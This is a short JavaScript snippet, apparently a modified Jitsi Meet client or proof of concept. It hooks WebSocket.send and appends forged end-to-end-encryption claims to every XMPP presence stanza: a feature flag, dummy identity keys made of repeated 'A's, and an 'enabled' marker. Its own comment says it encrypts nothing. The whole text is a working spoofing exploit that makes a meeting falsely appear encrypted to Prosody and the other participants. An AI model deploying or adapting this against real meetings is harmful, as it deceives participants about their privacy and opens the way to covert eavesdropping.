/*
 * A modified client: it claims in every presence what Prosody asks for, with keys that nobody has, and encrypts
 * nothing. `window.forge` can be set to another text, or to "" for the truth.
 */
(() => {
  const key = (name) =>
    `<jitsi_participant_e2ee.idKey.${name}>${"A".repeat(43)}</jitsi_participant_e2ee.idKey.${name}>`;
  window.forge =
    `<features><feature var="https://jitsi.org/meet/e2ee"/></features>${key("curve25519")}${key("ed25519")}` +
    "<jitsi_participant_e2ee.enabled>true</jitsi_participant_e2ee.enabled>";
  const { send } = WebSocket.prototype;
  WebSocket.prototype.send = function (text) {
    const presence = typeof text === "string" && /^<presence (?![^>]*type=)[^>]*to=/.test(text);
    return send.call(this, presence ? text.replace(/<\/presence>$/, `${window.forge}</presence>`) : text);
  };
  window.tapWithoutKeys();
})();
